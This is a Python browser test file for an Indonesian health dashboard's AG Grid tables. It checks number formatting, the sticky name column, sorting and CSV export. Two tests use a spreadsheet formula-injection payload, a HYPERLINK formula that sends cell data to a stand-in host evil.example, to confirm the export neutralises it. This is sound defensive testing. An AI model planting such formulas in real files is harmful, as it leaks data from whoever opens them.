"""The tables (AG Grid, layouts/grid.py) in headless Chromium on the demo province: numbers
written as the server writes them, the name column in sight when a table scrolls sideways on
a 1024 px projector, sorting, a CSV that is exactly the table as shown, a formula in a cell
neutralised, and no console error (the Content-Security-Policy has no 'unsafe-eval')."""
from __future__ import annotations

import csv
import io
import json
import os
import time
from pathlib import Path

import pytest

from indicators import format as fmt
from layouts.ids import Grid, dom_id
from layouts.ids import Pws as P
from tests.browser import (
    browser_missing,
    make_driver,
    select_option,
    severe_errors,
    show_lazy_section,
    wait_text,
)

pytestmark = pytest.mark.browser

if (reason := browser_missing()) and not os.environ.get("REQUIRE_BROWSER"):
    pytest.skip(reason, allow_module_level=True)

SHOTS = Path(os.environ.get("SCREENSHOT_DIR", "/tmp/screenshots"))
STATUS_TABLE = dom_id(P.of(P.TABLE, "klaster-2"))

# the table as shown: header texts in order, then each row's cell texts (pinned part first),
# in the order the grid displays them
SHOWN = """
const g = document.getElementById(arguments[0]);
const header = [...g.querySelectorAll('.ag-header-cell')].map(h => h.innerText.trim());
const n = new Set([...g.querySelectorAll('.ag-row')].map(r => r.getAttribute('row-index'))).size;
const rows = [];
for (let i = 0; i < n; i++) {
  rows.push([...g.querySelectorAll(`.ag-row[row-index="${i}"] .ag-cell`)].map(c => c.innerText.trim()));
}
return {header: header, rows: rows};
"""


def wait_for(driver, predicate, timeout=40):
    from selenium.webdriver.support.ui import WebDriverWait

    return WebDriverWait(driver, timeout).until(predicate)


def wait_rows(driver, element_id: str, timeout=40):
    wait_for(driver, lambda d: d.execute_script(
        "const g = document.getElementById(arguments[0]);"
        "return g && g.querySelectorAll('.ag-center-cols-container .ag-row').length;", element_id), timeout)


def shot(driver, name):
    SHOTS.mkdir(parents=True, exist_ok=True)
    driver.save_screenshot(str(SHOTS / f"{name}.png"))


def click(driver, element):
    driver.execute_script("arguments[0].scrollIntoView({block: 'center', behavior: 'instant'});", element)
    element.click()


def download_csv(driver, grid_id: str, folder: Path) -> str:
    """Press the grid's "Unduh CSV tabel ini" and return the file's text."""
    driver.execute_cdp_cmd("Page.setDownloadBehavior", {"behavior": "allow", "downloadPath": str(folder)})
    button = driver.execute_script("return document.getElementById(arguments[0]);", dom_id(Grid.csv(grid_id)))
    assert button.text == "Unduh CSV tabel ini"
    click(driver, button)
    done = wait_for(driver, lambda d: list(folder.glob("*.csv")), timeout=20)
    time.sleep(0.3)  # the browser writes the file, then renames it: read it whole
    return done[0].read_bytes().decode("utf-8-sig")


def assert_numbers_written_as_the_server_does(driver):
    """assets/grid.js writes numbers as indicators/format.py does, and its CSV guard."""
    cases = [
        ("gridNumber", [1234.5, 1, None], fmt.angka(1234.5, 1)),
        ("gridNumber", [1234567, 0, None], fmt.angka(1234567)),
        ("gridNumber", [-1234.5, 1, None], fmt.angka(-1234.5, 1)),
        ("gridNumber", [0, 0, None], "0"),  # zero is a value: '0', never '–'
        ("gridNumber", [None, 0, None], fmt.NO_DATA),
        ("gridNumber", [385.04, 1, "per 100.000 penduduk"], "385,0 per 100.000 penduduk"),
        ("gridPercent", [0.784, 1], fmt.persen(0.784)),
        ("gridPercent", [1, 1], fmt.persen(1)),
        ("gridPercent", [None, 1], fmt.NO_DATA),
        ("gridChange", [0.052, 3], fmt.selisih(0.052)),
        ("gridChange", [-0.01, 3], fmt.selisih(-0.01)),
        ("gridChange", [0, 3], fmt.selisih(0)),
        ("gridChange", [None, 3], fmt.NO_DATA),
        ("gridText", [None, fmt.NO_DATA], fmt.NO_DATA),
        ("gridText", ["", ""], ""),
    ]
    shown = driver.execute_script(
        "return arguments[0].map(c => window.dashAgGridFunctions[c[0]](...c[1]));", [c[:2] for c in cases])
    assert shown == [c[2] for c in cases]
    # the CSV: a text cell that a spreadsheet would run gets a leading "'"; numbers as shown
    csv_cells = driver.execute_script(
        "const f = window.dashAgGridFunctions.gridCsvCell;"
        "return arguments[0].map(v => f({value: v, formatValue: x => x === null ? '–' : String(x)}));",
        ['=HYPERLINK("http://evil.example")', "-Desa", "+62 Desa", "@Desa", "\tDesa", "Desa", -3, None])
    assert csv_cells == ["'=HYPERLINK(\"http://evil.example\")", "'-Desa", "'+62 Desa", "'@Desa", "'\tDesa",
                         "Desa", "-3", "–"]


def test_the_csv_of_a_table_is_what_it_shows_in_the_order_shown(app_server, driver, tmp_path):
    driver.get(app_server.url + "/klaster-2?provinsi=99&kabupaten=99.01")
    show_lazy_section(driver, "klaster-2-pws")  # below the cascade: loads when scrolled to
    wait_rows(driver, STATUS_TABLE)
    # sort by the cumulative coverage, highest first (a second click), as a person does
    header = driver.execute_script(
        "return document.getElementById(arguments[0])"
        ".querySelector('.ag-header-cell[col-id=\"cakupan_kumulatif\"] .ag-header-cell-label');", STATUS_TABLE)
    click(driver, header)
    click(driver, header)
    wait_for(driver, lambda d: d.execute_script(
        "return document.getElementById(arguments[0]).querySelector('.ag-header-cell[col-id=\"cakupan_kumulatif\"]')"
        ".getAttribute('aria-sort');", STATUS_TABLE) == "descending")
    shown = driver.execute_script(SHOWN, STATUS_TABLE)
    assert shown["header"][:3] == ["Puskesmas", "Status", "Cakupan kumulatif"]
    coverage = [float(r[2].rstrip("%").replace(".", "").replace(",", ".")) for r in shown["rows"] if r[2] != "–"]
    assert coverage == sorted(coverage, reverse=True) and len(coverage) > 3
    assert all("," in r[2] and r[2].endswith("%") for r in shown["rows"] if r[2] != "–")

    text = download_csv(driver, STATUS_TABLE, tmp_path)
    assert [p.name for p in tmp_path.glob("*.csv")] == ["tabel-status-pws-klaster-2.csv"]
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == shown["header"]
    assert rows[1:] == shown["rows"]  # the same rows, order and formatted text
    assert severe_errors(driver) == []


def test_the_name_column_stays_in_sight_when_a_table_scrolls_sideways_at_1024(app_server):
    drv = make_driver(1024, 768, login_to=app_server.url)
    try:
        for path, grid_id, first in (("/iks?provinsi=99&kabupaten=99.01", "iks-table", "Wilayah"),
                                     ("/klaster-2?provinsi=99&kabupaten=99.01", STATUS_TABLE, "Puskesmas")):
            drv.get(app_server.url + path)
            # below the cascade / the map: loads when scrolled to
            show_lazy_section(drv, "klaster-2-pws" if grid_id == STATUS_TABLE else "iks-tabel")
            wait_rows(drv, grid_id)
            state = drv.execute_script("""
                const api = dash_ag_grid.getApi(arguments[0]);
                const columns = api.getAllDisplayedColumns();
                api.ensureColumnVisible(columns[columns.length - 1]);
                const g = document.getElementById(arguments[0]);
                g.scrollIntoView({block: 'center', behavior: 'instant'});
                return new Promise(done => setTimeout(() => {
                  const viewport = g.querySelector('.ag-center-cols-viewport, .ag-body-horizontal-scroll-viewport');
                  const name = g.querySelector('.ag-pinned-left-cols-container .ag-row[row-index="0"] .ag-cell');
                  const r = name.getBoundingClientRect();
                  done({scrolled: g.querySelector('.ag-body-horizontal-scroll-viewport').scrollLeft,
                        name: name.innerText, left: r.left, right: r.right,
                        header: g.querySelector('.ag-pinned-left-header .ag-header-cell').innerText.trim(),
                        page: document.documentElement.scrollWidth, viewport: !!viewport});
                }, 300));""", grid_id)
            assert state["scrolled"] > 0, state  # the table did scroll sideways
            assert state["header"] == first and state["name"].strip()
            assert 0 <= state["left"] and state["right"] <= 1024  # ... and its name column did not
            assert state["page"] <= 1024  # only the table scrolls, never the page
            shot(drv, f"grid-scrolled-{grid_id if grid_id == 'iks-table' else 'pws-table'}-1024")
        assert severe_errors(drv) == []
    finally:
        drv.quit()


def test_a_formula_in_an_uploaded_file_is_neutralised_in_the_csv_of_its_preview(app_server, driver, tmp_path):
    header = ("kode_desa,id_keluarga,tanggal_kunjungan,kb,persalinan_faskes,imunisasi_dasar,asi_eksklusif,"
              "pemantauan_pertumbuhan,tb_berobat,hipertensi_berobat,gangguan_jiwa_berobat,tidak_merokok,"
              "jkn,air_bersih,jamban_sehat\n")
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
    bad = tmp_path / "upload" / "kunjungan-rumus.csv"
    bad.parent.mkdir()
    bad.write_text(header + f"{json.dumps(formula)},KUJI0000000009,2025-03-01,Y,N,N,N,N,N,N,N,Y,Y,Y,Y\n"
                   .replace('\\"', '""'), encoding="utf-8")
    driver.get(app_server.url + "/unggah")
    wait_text(driver, ".page-title", "Unggah Data")
    assert_numbers_written_as_the_server_does(driver)
    select_option(driver, "unggah-dataset", "Kunjungan keluarga PIS-PK")
    driver.find_element("css selector", "#unggah-upload input[type=file]").send_keys(str(bad))
    wait_text(driver, "#unggah-report", "ditolak")
    wait_rows(driver, "unggah-preview-table")
    assert formula in driver.find_element("id", "unggah-preview-table").text  # shown as typed, as text
    rows = list(csv.reader(io.StringIO(download_csv(driver, "unggah-preview-table", tmp_path))))
    assert rows[0][:2] == ["kode_desa", "id_keluarga"]
    assert rows[1][:2] == ["'" + formula, "KUJI0000000009"]
    assert severe_errors(driver) == []
